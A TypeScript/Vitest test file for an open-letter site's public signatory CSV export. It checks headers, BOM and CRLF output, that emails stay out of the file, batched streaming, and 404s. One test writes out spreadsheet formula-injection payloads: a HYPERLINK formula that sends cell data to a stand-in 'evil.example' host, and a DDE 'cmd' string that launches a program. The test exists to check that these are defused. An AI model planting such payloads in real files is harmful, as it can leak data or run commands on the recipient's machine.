import { describe, expect, test } from 'vitest'
import { readCsv } from '~/utils/csv'
import { getDb } from '~/utils/db.server'
import { EXPORT_BATCH_SIZE, PUBLIC_CSV_HEADER } from '~/services/exports.server'
import { insertSignatures } from '../../tests/bulk-signatures'
import { createTestLetter, createTestSignature } from '../../tests/factories'
import { callRoute } from '../../tests/route-helpers'
import { loader } from './letters.$slug_.signatories[.]csv'

const base = 'http://localhost:3000'

async function download(slug: string, init: RequestInit = {}) {
  return (await loader({
    request: new Request(`${base}/letters/${slug}/signatories.csv`, init),
    params: { slug },
    context: {},
  })) as Response
}

async function* chunksOf(chunks: Uint8Array[]) {
  yield* chunks
}

async function recordsOf(response: Response) {
  const records: string[][] = []
  for await (const record of readCsv(response.body!)) records.push(record.fields)
  return records
}

describe('the public signatory list as CSV', () => {
  test('lists exactly the public list, in signing order, with verification, read back by our own parser', async () => {
    const letter = await createTestLetter(getDb())
    await createTestSignature(getDb(), letter, {
      status: 'approved',
      name: 'Zoë Nguyễn-Adams',
      organization: 'Alameda County Public Defender, Oakland',
      email: 'zoe.private@example.org',
    })
    await createTestSignature(getDb(), letter, {
      status: 'approved',
      name: 'Dana "DJ" Jones',
      profession: 'Paralegal',
      verifiedAs: 'registry',
    })
    await createTestSignature(getDb(), letter, {
      status: 'approved',
      name: 'Counted Only',
      listing: 'counted',
    })
    await createTestSignature(getDb(), letter, { status: 'confirmed', name: 'Awaiting Review' })
    await createTestSignature(getDb(), letter, { status: 'withdrawn', name: 'Withdrew' })

    const response = await download(letter.slug)
    expect(response.status).toBe(200)
    expect(response.headers.get('Content-Type')).toBe('text/csv; charset=utf-8; header=present')
    expect(response.headers.get('Content-Disposition')).toBe(
      `attachment; filename="${letter.slug}-signatories.csv"`,
    )
    expect(response.headers.get('Cache-Control')).toMatch(/^public, max-age=\d+/)
    expect(response.headers.get('Access-Control-Allow-Origin')).toBe('*')
    const records = await recordsOf(response)
    expect(records).toEqual([
      PUBLIC_CSV_HEADER,
      [
        'Zoë Nguyễn-Adams',
        'Public defender',
        'Alameda County Public Defender, Oakland',
        'Oakland, CA',
        'email',
        'Email confirmed',
        expect.stringMatching(/^\d{4}-\d{2}-\d{2}$/),
        '1',
      ],
      [
        'Dana "DJ" Jones',
        'Paralegal',
        'County Public Defender',
        'Oakland, CA',
        'registry',
        'Test Bar roster',
        expect.stringMatching(/^\d{4}-\d{2}-\d{2}$/),
        '1',
      ],
    ])
  })

  test('the bytes: a BOM, CRLF line ends, quotes doubled, no email anywhere', async () => {
    const letter = await createTestLetter(getDb())
    await createTestSignature(getDb(), letter, {
      status: 'approved',
      name: 'Dana "DJ" Jones',
      email: 'dana.private@example.org',
    })
    const bytes = Buffer.from(await (await download(letter.slug)).arrayBuffer())
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf])
    const text = bytes.toString('utf8')
    expect(text).toContain('\r\n"Dana ""DJ"" Jones",Public defender,')
    expect(text.endsWith('\r\n')).toBe(true)
    expect(text.replace(/\r\n/g, '')).not.toMatch(/[\r\n]/)
    expect(text).not.toContain('dana.private')
  })

  test('names and organizations a spreadsheet would run as formulas are defused', async () => {
    const letter = await createTestLetter(getDb())
    await createTestSignature(getDb(), letter, {
      status: 'approved',
      name: '=HYPERLINK("http://evil.example?"&A1,"Click")',
      organization: "@SUM(1+1)*cmd|' /C calc'!A0",
      profession: '+1-555-0100',
    })
    await createTestSignature(getDb(), letter, {
      status: 'approved',
      name: '-Minus',
      organization: '\tTabbed',
    })
    const [, first, second] = await recordsOf(await download(letter.slug))
    expect(first!.slice(0, 3)).toEqual([
      `'=HYPERLINK("http://evil.example?"&A1,"Click")`,
      "'+1-555-0100",
      "'@SUM(1+1)*cmd|' /C calc'!A0",
    ])
    expect(second![0]).toBe("'-Minus")
    expect(second![2]).toBe("'\tTabbed")
  })

  test('a list of two and a half batches comes out whole, as a stream of one chunk per batch', async () => {
    const letter = await createTestLetter(getDb())
    const count = EXPORT_BATCH_SIZE * 2.5
    await insertSignatures(getDb(), letter, count)
    const response = await download(letter.slug)
    expect(response.body).toBeInstanceOf(ReadableStream)
    const reader = response.body!.getReader()
    const chunks: Uint8Array[] = []
    for (;;) {
      const { done, value } = await reader.read()
      if (done) break
      chunks.push(value)
    }
    expect(chunks).toHaveLength(3)
    expect(Math.max(...chunks.map((chunk) => chunk.byteLength))).toBeLessThan(EXPORT_BATCH_SIZE * 200)
    const records = []
    for await (const record of readCsv(chunksOf(chunks))) records.push(record.fields[0])
    expect(records).toHaveLength(count + 1)
    expect(records[1]).toBe('Signer 0')
    expect(records[count]).toBe(`Signer ${count - 1}`)
  })

  test('HEAD answers the headers without building the file', async () => {
    const letter = await createTestLetter(getDb())
    const response = await download(letter.slug, { method: 'HEAD' })
    expect(response.status).toBe(200)
    expect(response.body).toBeNull()
  })

  test('a draft or unknown letter is a 404', async () => {
    const draft = await createTestLetter(getDb(), { status: 'draft' })
    for (const slug of [draft.slug, 'no-such-letter']) {
      const result = await callRoute(loader, new Request(`${base}/letters/${slug}/signatories.csv`), { slug })
      expect(result.status).toBe(404)
    }
  })
})
